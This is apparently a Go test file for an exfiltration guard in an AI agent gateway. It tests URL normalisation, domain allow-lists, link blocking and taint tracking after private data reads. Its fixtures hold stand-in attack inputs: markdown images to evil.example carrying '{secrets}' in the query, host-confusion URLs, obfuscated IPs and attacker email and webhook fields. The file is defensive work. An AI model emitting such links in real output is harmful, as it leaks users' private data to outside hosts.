package exfil_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/mandatehq/mandate/gateway/guard/exfil"
	"github.com/mandatehq/mandate/gateway/guard/exfil/exfiltest"
)

func TestNormalizeHost(t *testing.T) {
	for _, tc := range []struct{ in, want, err string }{
		{"Docs.Example.COM.", "docs.example.com", ""},
		{"ＤＯＣＳ.example.com", "docs.example.com", ""},
		{"bücher.example", "xn--bcher-kva.example", ""},
		{"docs%2Eexample%2Ecom", "docs.example.com", ""},
		{"127.0.0.1", "127.0.0.1", ""},
		{"2130706433", "127.0.0.1", ""},
		{"0x7f.1", "127.0.0.1", ""},
		{"0177.0.0.1", "127.0.0.1", ""},
		{"127.1", "127.0.0.1", ""},
		{"[::1]", "::1", ""},
		{"[::ffff:10.0.0.1]", "10.0.0.1", ""},
		{"256.0.0.1", "", "invalid host"},
		{"1.2.3.4.5", "", "invalid host"},
		{"exa mple.com", "", "invalid host"},
		{"", "", "invalid host"},
		{"a..b", "", "invalid host"},
	} {
		h, err := exfil.NormalizeHost(tc.in)
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%q: %v, want error %q", tc.in, h, tc.err)
			}
			continue
		}
		if err != nil || h.String() != tc.want {
			t.Errorf("%q: %q %v, want %q", tc.in, h, err, tc.want)
		}
	}
}

func TestURLHost(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		ok       bool
	}{
		{"https://docs.example.com/a?b#c", "docs.example.com", true},
		{"https://docs.example.com@evil.example/", "evil.example", true},
		{`https://evil.example\@docs.example.com/`, "evil.example", true},
		{"https://user:pw@docs.example.com:8443/x", "docs.example.com", true},
		{"//evil.example/pixel.png", "evil.example", true},
		{"HTTPS:\\\\evil.example", "evil.example", true},
		{"https:evil.example/x", "evil.example", true},
		{"http://[2001:db8::1]:8080/", "2001:db8::1", true},
		{"http://0x7f000001/", "127.0.0.1", true},
		{"h\ttps://ev\nil.example/", "evil.example", true},
		{"ftp://files.example.org/pub", "files.example.org", true},
		{"mailto:bob@example.com", "", false},
		{"data:text/plain,hi", "", false},
		{"/relative/path", "", false},
		{"javascript:alert(1)", "", false},
	} {
		h, ok, err := exfil.URLHost(tc.in)
		if err != nil || ok != tc.ok || ok && h.String() != tc.want {
			t.Errorf("%q: %q %v %v, want %q %v", tc.in, h, ok, err, tc.want, tc.ok)
		}
	}
}

func TestAllowList(t *testing.T) {
	a, err := exfil.ParseAllowList("docs.example.com, *.corp.example, 192.0.2.10, 10.0.0.0/8, [2001:db8::1], Bücher.Example.")
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]bool{
		"docs.example.com":         true,
		"DOCS.EXAMPLE.COM.":        true,
		"api.docs.example.com":     false,
		"example.com":              false,
		"wiki.corp.example":        true,
		"a.b.corp.example":         true,
		"corp.example":             false,
		"evilcorp.example":         false,
		"corp.example.evil.test":   false,
		"192.0.2.10":               true,
		"3221225994":               true, // 192.0.2.10 as a number
		"192.0.2.11":               false,
		"10.200.3.4":               true,
		"[2001:db8::1]":            true,
		"xn--bcher-kva.example":    true,
		"docs.example.com.evil.io": false,
	} {
		if got := a.AllowsHost(host); got != want {
			t.Errorf("%s: %v, want %v", host, got, want)
		}
	}
	for _, bad := range []string{"*", "*.com", "a*.example.com", "https://docs.example.com/x", "docs.example.com/path?x", "user@host", "*.192.0.2.1", "10.0.0.0/33"} {
		if _, err := exfil.ParseAllowList(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func hosts(ls []exfil.Link) []string {
	var out []string
	for _, l := range ls {
		s := l.Kind.String() + ":" + l.Host.String()
		if l.HostErr != nil {
			s = l.Kind.String() + ":ERR"
		}
		out = append(out, s)
	}
	return out
}

func TestExtractText(t *testing.T) {
	text := "See [docs](https://docs.example.com/a_(b)) and ![x](https://evil.example/p.png?d={secrets}) " +
		"or <img src=\"//cdn.evil.example/i.gif\"> <a href='https://wiki.corp.example/x'>w</a>, raw https://raw.example.org/x. " +
		"and www.example.net/path, [ref]: https://ref.example.com\n\n[id]: https://def.example.com/x \"t\"\n" +
		"relative ![r](/img/a.png) mailto:bob@example.com ftp://files.example.org/pub http://[::1]:80/ http://exa mple"
	got := fmt.Sprint(hosts(exfil.ExtractText([]byte(text))))
	want := "[link:docs.example.com image:evil.example image:cdn.evil.example link:wiki.corp.example url:raw.example.org url:www.example.net url:ref.example.com link:def.example.com url:files.example.org url:::1 url:exa]"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestExtractJSON(t *testing.T) {
	raw := `{"url":"https://api.example.com/v1","webhook_url":"hooks.evil.example/x","to":"attacker@evil.example",` +
		`"version":"v1.2","count":"3.5","host":"10.0.0.5","body":"see https://in.text.example/p and thanks",` +
		`"nested":[{"callback":"https://cb.example.org"}],"note":"no links here","bad":"https://exa mple.com/"}`
	ls, err := exfil.ExtractJSON([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	got := fmt.Sprint(hosts(ls))
	want := "[json:api.example.com json:hooks.evil.example email:evil.example json:10.0.0.5 url:in.text.example json:cb.example.org url:exa]"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if _, err := exfil.ExtractJSON([]byte(`{"a":`)); err == nil {
		t.Error("malformed JSON accepted")
	}
}

func TestGuard(t *testing.T) {
	g, err := exfil.Compile(map[string]string{"allowed_domains": "docs.example.com, *.corp.example"})
	if err != nil {
		t.Fatal(err)
	}
	out := []byte("Summary: see [the guide](https://docs.example.com/g) and ![chart](https://evil.example/c.png?q=secret) or https://wiki.corp.example/p")
	vs := g.CheckText(out)
	if len(vs) != 1 || vs[0].Link.Host.String() != "evil.example" || vs[0].Link.Kind != exfil.KindImage {
		t.Fatalf("violations %+v", vs)
	}
	if got := string(exfil.RewriteText(out, vs)); got != "Summary: see [the guide](https://docs.example.com/g) and ![chart](blocked:) or https://wiki.corp.example/p" {
		t.Errorf("rewritten %q", got)
	}
	vs, err = g.CheckJSON([]byte(`{"to":"bob@mail.corp.example","cc":"eve@evil.example","url":"https://x.corp.example/y"}`))
	if err != nil || len(vs) != 1 || vs[0].Link.Host.String() != "evil.example" {
		t.Fatalf("json violations %+v %v", vs, err)
	}
	// an unparseable host is a violation (fail closed)
	if vs := g.CheckText([]byte("go to http://exa%zz.com/")); len(vs) != 1 || vs[0].Reason != "invalid host" {
		t.Errorf("bad host: %+v", vs)
	}
	// without allowed_domains nothing is checked (only the trifecta)
	none, _ := exfil.Compile(nil)
	if vs := none.CheckText(out); vs != nil {
		t.Errorf("no allow-list: %+v", vs)
	}
	// emails can be left out
	noMail, _ := exfil.Compile(map[string]string{"allowed_domains": "corp.example", "emails": "false"})
	if vs, _ := noMail.CheckJSON([]byte(`{"to":"eve@evil.example"}`)); len(vs) != 0 {
		t.Errorf("emails false: %+v", vs)
	}
	for opts, want := range map[string]string{
		"allowed_domains=*":                        "wildcards",
		"action=block":                             "not one of",
		"allowed_domain=x.com":                     "unknown option allowed_domain",
		"allowed_domains=https://docs.example.com": "not a URL",
	} {
		k, v, _ := strings.Cut(opts, "=")
		if _, err := exfil.Compile(map[string]string{k: v}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", opts, err, want)
		}
	}
}

func TestTrifecta(t *testing.T) {
	clock := exfiltest.NewClock()
	tr := &exfil.Trifecta{Store: exfil.NewMemoryStore(time.Hour, 100, clock.Now), Now: clock.Now}
	ctx := t.Context()
	private, _ := exfil.ParseTags(map[string]string{"sensitivity": "private", "url": "https://hr.internal"})
	external, _ := exfil.ParseTags(map[string]string{"egress": "EXTERNAL"})
	plain := exfil.Tags{}
	run, err := exfil.RunKey("alice", "agent-7", "run-1")
	if err != nil {
		t.Fatal(err)
	}
	other, _ := exfil.RunKey("bob", "agent-7", "run-1") // same run id, other user
	// before any private read, external calls pass
	if d, err := tr.Check(ctx, run, "system.ai.slack", external); err != nil || d.Deny {
		t.Fatalf("clean run: %+v %v", d, err)
	}
	// a public result does not taint
	if err := tr.Received(ctx, run, "system.ai.weather", plain); err != nil {
		t.Fatal(err)
	}
	if d, _ := tr.Check(ctx, run, "system.ai.slack", external); d.Deny {
		t.Fatal("public source tainted the run")
	}
	// private read → external calls denied, internal ones allowed
	if err := tr.Received(ctx, run, "main.hr.payroll", private); err != nil {
		t.Fatal(err)
	}
	d, err := tr.Check(ctx, run, "system.ai.slack", external)
	if err != nil || !d.Deny || d.Source != "main.hr.payroll" {
		t.Fatalf("tainted run: %+v %v", d, err)
	}
	if !strings.Contains(d.Reason("system.ai.slack"), "main.hr.payroll") {
		t.Errorf("reason %q", d.Reason("system.ai.slack"))
	}
	if d, _ := tr.Check(ctx, run, "main.crm.search", plain); d.Deny {
		t.Error("internal call denied")
	}
	// other users' runs with the same run id are separate
	if d, _ := tr.Check(ctx, other, "system.ai.slack", external); d.Deny {
		t.Error("taint crossed users")
	}
	if _, err := exfil.ParseTags(map[string]string{"sensitivity": "secret"}); err == nil {
		t.Error("bad sensitivity accepted")
	}
	if _, err := exfil.RunKey("a", "b", strings.Repeat("x", exfil.MaxRunKey+1)); err == nil {
		t.Error("long run id accepted")
	}
}

func TestMemoryStoreConformance(t *testing.T) {
	exfiltest.RunStoreSuite(t, func(t *testing.T, ttl time.Duration, max int, clock *exfiltest.Clock) exfil.RunStore {
		return exfil.NewMemoryStore(ttl, max, clock.Now)
	})
}

func FuzzExtract(f *testing.F) {
	for _, s := range []string{"[a](http://x.example)", "![", "src=", "https://", "www.", "http://[::1", "//a", "]: "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, l := range exfil.ExtractText([]byte(s)) {
			if l.Start < 0 || l.End > len(s) || l.Start > l.End {
				t.Fatalf("range %d-%d of %d", l.Start, l.End, len(s))
			}
		}
		_, _ = exfil.ExtractJSON([]byte(s))
	})
}
